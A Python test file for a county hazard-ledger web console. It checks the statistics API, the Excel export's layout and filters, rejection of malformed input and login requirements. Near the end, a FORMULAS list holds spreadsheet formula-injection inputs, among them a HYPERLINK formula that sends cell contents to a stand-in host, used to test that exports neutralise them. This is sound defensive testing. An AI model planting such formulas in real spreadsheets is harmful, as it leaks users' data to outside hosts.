"""The ledger's statistics and Excel export over HTTP, on real SQLite and PostgreSQL.

A small county ledger: entries of every channel and status in two townships, some overdue,
one signed off, and public reports still unverified or found untrue (kept, never counted).
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from io import BytesIO

import httpx
import openpyxl
import pytest

from alerts import ledger
from alerts.ledger import Source
from alerts.notices import CST
from firewatch import db
from firewatch.accounts import ensure_demo_accounts
from firewatch.contract import utc_now
from firewatch.profiles import HazardCategory
from firewatch.settings import SITES_DIR
from firewatch.web.app import AppContext, create_app
from ingest.sqlite_store import SqliteTimeSeries
from tests.support.auth import DEMO_PASSWORD, login_async
from tests.support.ledger import County, demo_county

DAY = timedelta(days=1)


async def fill_ledger(county: County) -> dict[str, int]:
    now = utc_now()
    ids = {
        # 蓉城镇
        "wiring": await county.file(
            now - DAY,
            institution_id="rongcheng-eldercare",
            category=HazardCategory.ELECTRICAL,
            description="配电房私拉乱接电线",
        ),
        "kitchen": await county.file(
            now + 3 * DAY,
            institution_id="rongcheng-eldercare",
            category=HazardCategory.GAS,
            source=Source.SELF_CHECK,
            description="厨房燃气软管老化",
        ),
        "exit": await county.file(
            now + 3 * DAY, institution_id="county-child-welfare", description="宿舍楼安全出口上锁"
        ),
        # 丁桥镇
        "report": await county.file(
            now - DAY, source=Source.PUBLIC_REPORT, description="二楼疏散通道堆放杂物"
        ),
        "unverified": await county.file(
            now - DAY, source=Source.PUBLIC_REPORT, description="夜间无人值班"
        ),
        "untrue": await county.file(
            now - DAY, source=Source.PUBLIC_REPORT, description="消防栓无水"
        ),
    }
    await county.move(ids["kitchen"], "start", note="已更换为金属波纹管，待验收前试压")
    await county.move(ids["exit"], "start", "submit", "sign-off")
    await county.move(ids["report"], "verify", "start", "submit")
    await county.move(ids["untrue"], "reject")
    async with county.sessions.begin() as session:
        gas = db.Hazard(
            institution_id="dingqiao-eldercare",
            township="丁桥镇",
            category="gas",
            source="iot",
            description="厨房：可燃气体浓度低限报警（物联网监测自动上报）",
            responsible_unit="丁桥镇敬老院（演示）",
            responsible_person="赵强",
            responsible_phone="13800000202",
            deadline=now - DAY,
            status="reported",
            device_id="dq-gas-1",
            rule="gas_low",
        )
        await session.run_sync(ledger.record_iot_entry, gas)
        ids["iot"] = gas.id
    return ids


@pytest.fixture
async def county(database_url: str):
    async with demo_county(database_url) as county:
        county.ids = await fill_ledger(county)
        yield county


@pytest.fixture
async def console(county: County, tmp_path):
    await ensure_demo_accounts(county.sessions, DEMO_PASSWORD)
    return create_app(
        AppContext(
            sessions=county.sessions,
            timeseries=SqliteTimeSeries(tmp_path / "ts"),
            site=county.site,
            site_dir=SITES_DIR,
            statuses={},
        )
    )


@pytest.fixture
async def api(console):
    """The bureau's administrator, logged in to the console."""
    async with httpx.AsyncClient(transport=httpx.ASGITransport(console), base_url="http://t") as c:
        yield await login_async(c, "admin")


async def stats(api: httpx.AsyncClient, **params: str) -> dict:
    reply = await api.get("/api/hazards/statistics", params=params)
    assert reply.status_code == 200, reply.text
    return reply.json()


def counts(row: dict) -> tuple[int, int, int, int]:
    return row["open"], row["overdue"], row["closed"], row["total"]


async def test_statistics_by_township_count_verified_entries_only(api):
    answer = await stats(api, by="township")
    assert answer["by"] == "township" and answer["since"] is None
    assert {r["label"]: counts(r) for r in answer["rows"]} == {
        # the IoT gas entry (overdue) and the verified report awaiting verification (not
        # overdue: no longer in the responsible unit's hands); two reports never count
        "丁桥镇": (2, 1, 0, 2),
        # wiring (overdue), kitchen (rectifying), exit (signed off)
        "蓉城镇": (2, 1, 1, 3),
    }
    assert answer["totals"] == {"open": 4, "overdue": 2, "closed": 1, "total": 5}


async def test_statistics_by_source_and_category_speak_the_work_plans_words(api):
    by_source = {r["key"]: (r["label"], counts(r)) for r in (await stats(api, by="source"))["rows"]}
    assert by_source == {
        "inspection": ("督导检查发现", (1, 1, 1, 2)),
        "iot": ("物联网监测", (1, 1, 0, 1)),
        "public-report": ("群众举报查实", (1, 0, 0, 1)),
        "self-check": ("机构自查上报", (1, 0, 0, 1)),
    }
    by_category = {r["label"]: r["total"] for r in (await stats(api, by="category"))["rows"]}
    assert by_category == {"用电安全": 1, "用气安全": 2, "疏散通道": 2}


async def test_statistics_by_institution_over_a_period(api, county):
    async with county.sessions.begin() as session:  # the wiring entry was filed in October
        wiring = await session.get_one(db.Hazard, county.ids["wiring"])
        wiring.created_at = datetime(2026, 10, 15, 9, tzinfo=CST)
    october = await stats(api, by="institution", since="2026-10-01", until="2026-11-01")
    assert [(r["key"], r["label"], counts(r)) for r in october["rows"]] == [
        ("rongcheng-eldercare", "蓉城镇敬老院（演示）", (1, 1, 0, 1))
    ]
    assert october["since"].startswith("2026-10-01T00:00:00+08:00")  # China time
    since_october = await stats(api, by="institution", since="2026-10-01")
    assert since_october["totals"]["total"] == 5


async def test_an_unknown_grouping_is_refused(api):
    reply = await api.get("/api/hazards/statistics", params={"by": "weather"})
    assert reply.status_code == 422


async def export(api: httpx.AsyncClient, **params: str) -> openpyxl.Workbook:
    reply = await api.get("/api/hazards/export.xlsx", params=params)
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert reply.headers["content-disposition"].startswith("attachment; filename=")
    return openpyxl.load_workbook(BytesIO(reply.content))


async def test_the_excel_export_opens_in_the_ledger_layout_and_holds_every_entry(api, county):
    sheet = (await export(api)).active
    assert sheet.title == "隐患台账"
    assert sheet["A1"].value == "青阳县（演示）民政服务机构重大事故隐患台账"
    assert sheet["A2"].value.startswith("导出时间：") and sheet["A2"].value.endswith("范围：全部")
    assert [c.value for c in sheet[3]] == [
        "序号",
        "乡镇",
        "单位名称",
        "隐患描述",
        "隐患类别",
        "排查渠道",
        "发现时间",
        "整改责任单位",
        "责任人",
        "联系电话",
        "整改时限",
        "整改措施及进展",
        "整改状态",
        "是否逾期",
        "销号日期",
        "回头看",
    ]
    assert sheet.freeze_panes == "A4"
    assert sheet.column_dimensions["D"].width == 40
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]
    assert [r[0] for r in rows] == [1, 2, 3, 4, 5, 6, 7]
    assert [r[3] for r in rows] == [
        "配电房私拉乱接电线",
        "厨房燃气软管老化",
        "宿舍楼安全出口上锁",
        "二楼疏散通道堆放杂物",
        "夜间无人值班",
        "消防栓无水",
        "厨房：可燃气体浓度低限报警（物联网监测自动上报）",
    ]
    wiring, kitchen, exit_, report, unverified, untrue, iot = rows
    assert wiring[1:6] == [
        "蓉城镇",
        "蓉城镇敬老院（演示）",
        "配电房私拉乱接电线",
        "用电安全",
        "督导检查发现",
    ]
    assert wiring[7:10] == ["蓉城镇敬老院（演示）", "赵强", "13800000202"]
    assert (wiring[12], wiring[13]) == ("已上报", "是")
    [entry] = await county.rows(db.Hazard, id=county.ids["wiring"])
    assert abs(wiring[10] - entry.deadline.astimezone(CST).replace(tzinfo=None)) < timedelta(
        seconds=1
    )  # China time, as Excel holds no zone
    assert (kitchen[5], kitchen[12], kitchen[13]) == ("机构自查上报", "整改中", "否")
    assert "开始整改：已更换为金属波纹管，待验收前试压（县民政局 张科长）" in kitchen[11]
    assert (exit_[12], exit_[15]) == ("已销号", "待开展")
    assert isinstance(exit_[14], datetime) and "验收通过，销号" in exit_[11]
    assert (report[5], report[12], report[13]) == ("群众举报查实", "待验收", None)
    assert (unverified[12], untrue[12]) == ("举报待核实", "举报不属实")
    assert (iot[5], iot[12], iot[13]) == ("物联网监测", "已上报", "是")


async def test_the_export_takes_the_lists_filters(api):
    chosen = await export(api, township="丁桥镇", status=["reported", "awaiting-verification"])
    sheet = chosen.active
    assert [row[3].value for row in sheet.iter_rows(min_row=4)] == [
        "二楼疏散通道堆放杂物",
        "厨房：可燃气体浓度低限报警（物联网监测自动上报）",
    ]
    assert "乡镇：丁桥镇" in sheet["A2"].value and "状态：已上报、待验收" in sheet["A2"].value


async def test_control_characters_or_a_far_date_in_a_filter_are_refused_not_a_broken_export(api):
    reply = await api.get(
        "/api/hazards/export.xlsx",
        params={"township": "丁桥\x02镇", "until": "1700-09-12T05:14:37+20:28"},
    )
    assert reply.status_code == 422
    assert [e["loc"] for e in reply.json()["detail"]] == [["query", "township"], ["query", "until"]]


async def test_the_export_shows_a_failed_recheck_and_the_entry_back_in_rectification(api, county):
    await county.move(county.ids["exit"], "recheck-fail", note="安全出口再次上锁")
    exit_ = [c.value for c in (await export(api)).active[6]]
    assert exit_[3] == "宿舍楼安全出口上锁"
    assert (exit_[12], exit_[14]) == ("整改中", None)  # no longer signed off
    assert exit_[15].startswith("不通过，重新整改（")
    assert exit_[11].endswith("回头看不通过，重新整改：安全出口再次上锁（县民政局 张科长）")


async def test_the_ledger_export_of_an_entry_due_in_9999_answers_200(api, county):
    await county.set_deadline(county.ids["kitchen"], datetime(9999, 12, 31, 23, tzinfo=UTC))
    rows = [[c.value for c in row] for row in (await export(api)).active.iter_rows(min_row=4)]
    kitchen = rows[1]
    assert kitchen[3] == "厨房燃气软管老化"
    # no China time exists for it: the calendar's last second, the last Excel can show
    assert (kitchen[10], kitchen[13]) == (datetime(9999, 12, 31, 23, 59, 59), "否")
    assert (await stats(api, by="township"))["totals"]["overdue"] == 2  # wiring and iot


#: what a member of the public or duty staff may type, each of which Excel would run
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    " \t=1+1",
    "\r=1+1",
]


async def test_a_description_beginning_with_a_formula_sign_is_text_in_the_workbook(api, county):
    for text in FORMULAS:
        await county.file(utc_now() + DAY, source=Source.PUBLIC_REPORT, description=text)
    sheet = (await export(api)).active
    cells = [row[3] for row in sheet.iter_rows(min_row=4)][-len(FORMULAS) :]
    # shown as typed (an XML reader reads a CR as a line feed)
    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in FORMULAS]
    for cell in cells:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.value
    assert sheet["D4"].quotePrefix is False  # "配电房私拉乱接电线": plain text, left alone


async def test_the_reports_need_a_login(console):
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(console), base_url="http://t"
    ) as anonymous:
        assert (await anonymous.get("/api/hazards/export.xlsx")).status_code == 401
        reply = await anonymous.get("/api/hazards/statistics", params={"by": "source"})
        assert reply.status_code == 401
